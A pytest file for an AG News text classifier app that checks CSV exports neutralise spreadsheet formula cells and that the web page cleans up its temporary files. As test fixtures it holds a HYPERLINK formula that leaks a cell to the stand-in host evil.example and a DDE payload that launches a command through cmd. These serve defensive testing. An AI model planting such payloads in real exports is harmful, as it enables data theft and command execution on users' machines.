"""What leaves the app: CSV cells a spreadsheet would run as formulas, and the page's temporary files.

Every CSV the page or the command line writes gives a text cell beginning with `=`, `+`, `-`, `@`,
tab or carriage return a leading `'` (numbers stay numbers); the batch outputs keep raw values on an
explicit option. The page's files for downloads have an owner: one report per run version, one
export per kind and session, nothing left by a failed batch, and nothing at all after exit (checked
in a child process whose temporary folder is this test's).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pandas as pd
import pytest

from agnews import cli
from agnews.comparison import write_comparison
from agnews.dataset.ag_news import AG_NEWS_CLASSES as LABELS
from agnews.serving import predict_file as predict_file_module
from agnews.serving.csv_batch import classify_csv
from agnews.text import clean_text
from agnews.ui.common import temporary_csv

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ROOT = Path(__file__).resolve().parents[1]


def read_back(path: str | Path) -> list[list[str]]:
    with Path(path).open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def fake_model(texts: list[str], _progress: object = None) -> np.ndarray:
    """The first class for every text, with probability 0.7."""
    probs = np.full((len(texts), len(LABELS)), 0.3 / (len(LABELS) - 1), dtype=np.float32)
    probs[:, 0] = 0.7
    return probs


def hostile_upload(folder: Path) -> Path:
    """A CSV to classify whose cells (header included) carry formulas beside harmless values."""
    path = folder / "hostile.csv"
    rows = [
        ["text", "@source", "score"],
        [FORMULA, "+cmd|' /C calc'!A0", "-0.5"],
        ["Oil prices climb", "\t=1+1", "3"],
    ]
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_the_rule_quotes_formula_starts_and_keeps_numbers() -> None:
    from agnews.csv_cells import neutralise, neutralise_frame

    for cell in (FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "--help", "-inf", "-1 "):
        assert neutralise(cell) == "'" + cell
    for cell in ("-0.5", "+3", "-1e5", "plain text", "", "a=b", "'=already", -0.5, None, 7):
        assert neutralise(cell) == cell
    frame = pd.DataFrame({"=name": [FORMULA, "ok"], "delta": [-0.5, 1.0], "flag": [True, False]})
    safe = neutralise_frame(frame)
    assert list(safe.columns) == ["'=name", "delta", "flag"]
    assert safe["'=name"].tolist() == ["'" + FORMULA, "ok"]
    assert safe["delta"].tolist() == [-0.5, 1.0] and safe["delta"].dtype == float
    assert frame.columns[0] == "=name" and frame.iloc[0, 0] == FORMULA  # the caller's frame is untouched


def test_restore_undoes_the_rule_for_files_read_back() -> None:
    from agnews.csv_cells import neutralise, restore

    for cell in (FORMULA, "+ve", "-", "@home", "\tx", "-0.5", "plain", "", 3, None):
        assert restore(neutralise(cell)) == cell
    assert restore("'plain") == "'plain"  # a quote the rule did not add stays


def test_page_exports_neutralise_formula_cells() -> None:
    """The decisions, errors, cross-domain, compare and label-issue exports all write through
    `temporary_csv` (the guard below holds that): text cells are quoted, numbers stay numbers."""
    rows = pd.DataFrame(
        {
            "row_id": [1, 2],
            "text": [FORMULA, "Oil prices climb"],
            "note": ["@boss", "-1"],
            "margin": [-0.25, 0.5],
        }
    )
    header, first, second = read_back(temporary_csv(rows, "agnews-decisions-"))
    assert header == ["row_id", "text", "note", "margin"]
    assert first == ["1", "'" + FORMULA, "'@boss", "-0.25"]
    assert second == ["2", "Oil prices climb", "-1", "0.5"]


def test_batch_file_neutralises_formula_cells_unless_raw(tmp_path: Path) -> None:
    upload = hostile_upload(tmp_path)
    safe = classify_csv(upload, tmp_path / "safe.csv", fake_model, classes=LABELS)
    assert safe.classified == 2
    header, first, second = read_back(tmp_path / "safe.csv")
    assert header[:3] == ["text", "'@source", "score"]
    assert first[:3] == ["'" + FORMULA, "'+cmd|' /C calc'!A0", "-0.5"]
    assert second[:3] == ["Oil prices climb", "'\t=1+1", "3"]

    classify_csv(upload, tmp_path / "raw.csv", fake_model, classes=LABELS, raw_cells=True)
    assert read_back(tmp_path / "raw.csv")[1][:2] == [FORMULA, "+cmd|' /C calc'!A0"]


class FakeClassifier:
    """`predict_file`'s backend without a model."""

    def __init__(self, _run: object, backend: str) -> None:
        self.name = f"{backend} (fake)"
        self.predict_many = fake_model
        self.clean = clean_text


def test_predict_file_neutralises_formula_cells_unless_raw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(predict_file_module, "Classifier", FakeClassifier)
    run = SimpleNamespace(
        name="fake",
        classes=LABELS,
        fact=lambda fact: None,
        manifest=SimpleNamespace(parts={}),
        model_path=tmp_path / "model",
    )
    upload = hostile_upload(tmp_path)
    predict_file_module.predict_file(run, upload, tmp_path / "safe.csv", chunk_rows=1, progress=False)
    header, first, _ = read_back(tmp_path / "safe.csv")
    assert header[1] == "'@source" and first[:2] == ["'" + FORMULA, "'+cmd|' /C calc'!A0"]
    assert first[2] == "-0.5"

    predict_file_module.predict_file(
        run, upload, tmp_path / "raw.csv", chunk_rows=1, progress=False, raw_cells=True
    )
    assert read_back(tmp_path / "raw.csv")[1][:2] == [FORMULA, "+cmd|' /C calc'!A0"]


def test_agnews_predict_passes_raw_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[dict[str, Any]] = []

    def record(run: object, source: Path, out: Path, **options: Any) -> Any:
        asked.append(options)
        return SimpleNamespace(
            totals=SimpleNamespace(rows=0), resumed_chunks=0, classified_chunks=0, backend="fake"
        )

    monkeypatch.setattr(predict_file_module, "predict_file", record)
    monkeypatch.setattr("agnews.rundir.run.Run.load", lambda path, catalog=None: path)
    argv = ["predict", str(tmp_path), str(tmp_path / "in.csv"), "--out", str(tmp_path / "out.csv")]
    assert cli.main(argv) == 0
    assert cli.main([*argv, "--raw-cells"]) == 0
    assert [options.get("raw_cells") for options in asked] == [False, True]


@dataclass
class StandInComparison:
    accuracy_a: float


def test_compare_disagreements_neutralise_formula_cells(tmp_path: Path) -> None:
    rows = pd.DataFrame({"text": [FORMULA], "a": ["-World"], "confidence_a": [-0.1]})
    _, written = write_comparison(tmp_path, StandInComparison(0.9), rows)  # type: ignore[arg-type]
    assert read_back(written)[1] == ["'" + FORMULA, "'-World", "-0.1"]


def test_every_csv_writer_uses_the_rule() -> None:
    """A new exporter cannot forget the rule: every module that writes CSV imports `agnews.csv_cells`,
    directly or through the page's one export helper."""
    writers = ("to_csv(", "csv.writer(", "DictWriter(")
    sources = [*sorted((ROOT / "agnews").rglob("*.py")), ROOT / "app.py"]
    missing = [
        str(path.relative_to(ROOT))
        for path in sources
        if any(w in (text := path.read_text(encoding="utf-8")) for w in writers)
        and "agnews.csv_cells import" not in text
    ]
    assert missing == []


# The page's files, made by the page's own functions in a child process whose system temporary
# folder is empty at the start; it prints what is in that folder after each step.
PAGE_SCRIPT = textwrap.dedent(
    """
    import json, sys, tempfile
    from pathlib import Path
    from types import SimpleNamespace

    import gradio as gr
    import numpy as np
    import pandas as pd

    import agnews.present.report as report
    from agnews.dataset.ag_news import AG_NEWS_CLASSES as LABELS
    from agnews.rundir.parts import Manifest
    from agnews.ui import common, file_upload, overview

    temp = Path(tempfile.gettempdir())
    uploads = Path(sys.argv[1])
    steps = {}

    def files():
        return sorted(str(p.relative_to(temp)) for p in temp.rglob("*") if p.is_file())

    def folders():
        return sorted(str(p.relative_to(temp)) for p in temp.rglob("*") if p.is_dir())

    built = []
    report.build_report = lambda run: built.append(run.name) or "<html>" + "x" * 1000 + "</html>"
    run = SimpleNamespace(name="quick", path=Path("/runs/quick"), manifest=Manifest(), warnings=[])
    first = {overview.report_path(run) for _ in range(5)}
    steps["report"] = {"files": files(), "paths": len(first), "built": len(built)}
    run.warnings = ["stage slices failed: out of memory"]  # a new version of the run
    second = {overview.report_path(run) for _ in range(3)}
    steps["report_again"] = {"files": files(), "paths": len(first | second), "built": len(built)}

    for n in range(3):
        common.temporary_csv(pd.DataFrame({"n": [n]}), "agnews-errors-")
    steps["exports"] = {"files": files()}

    def probs(texts, _progress=None):
        return np.full((len(texts), len(LABELS)), 1 / len(LABELS))

    predictor = SimpleNamespace(model_loaded=True, probabilities_many=probs, classes=LABELS, clean=str.strip)
    with gr.Blocks() as demo:
        file_upload.build(lambda: predictor)
    (classify,) = [d.fn for d in demo.fns.values() if d.api_name == "classify_csv"]
    before = folders()
    try:
        classify(str(uploads / "bad.csv"))
    except gr.Error:
        pass
    steps["failed_batch"] = {"before": before, "after": folders(), "files": files()}
    for _ in range(2):
        classify(str(uploads / "good.csv"))
    steps["batches"] = {"files": files()}
    print(json.dumps(steps))
    """
)


@pytest.fixture(scope="module")
def page_files(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, Any], Path]:
    """The steps' listings, and the temporary folder after the child exited."""
    uploads = tmp_path_factory.mktemp("uploads")
    (uploads / "bad.csv").write_text("headline,body\nOil,prices\n", encoding="utf-8")
    (uploads / "good.csv").write_text("text\nOil prices climb\n", encoding="utf-8")
    temp = tmp_path_factory.mktemp("system-temp")
    env = {**os.environ, "TMPDIR": str(temp), "GRADIO_TEMP_DIR": str(temp / "gradio")}
    done = subprocess.run(
        [sys.executable, "-c", PAGE_SCRIPT, str(uploads)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1]), temp


def test_report_clicks_leave_one_file_per_run_version(page_files: tuple[dict[str, Any], Path]) -> None:
    steps, _ = page_files
    html = [name for name in steps["report"]["files"] if name.endswith(".html")]
    assert len(html) == 1, html
    assert steps["report"]["built"] == 1 and steps["report"]["paths"] == 1
    again = [name for name in steps["report_again"]["files"] if name.endswith(".html")]
    assert len(again) == 1 and again != html  # the new version replaced the old one
    assert steps["report_again"]["built"] == 2


def test_an_export_replaces_the_previous_one_of_its_kind(page_files: tuple[dict[str, Any], Path]) -> None:
    steps, _ = page_files
    assert len([name for name in steps["exports"]["files"] if name.endswith(".csv")]) == 1


def test_a_failed_batch_leaves_nothing(page_files: tuple[dict[str, Any], Path]) -> None:
    steps, _ = page_files
    failed = steps["failed_batch"]
    assert set(failed["after"]) <= set(failed["before"]), set(failed["after"]) - set(failed["before"])
    outputs = [name for name in steps["batches"]["files"] if name.endswith("-classified.csv")]
    assert len(outputs) == 1, outputs  # the second file's output replaced the first's


def test_exit_removes_the_page_files(page_files: tuple[dict[str, Any], Path]) -> None:
    _, temp = page_files
    left = sorted(str(p.relative_to(temp)) for p in temp.rglob("*") if p.is_file())
    assert left == []
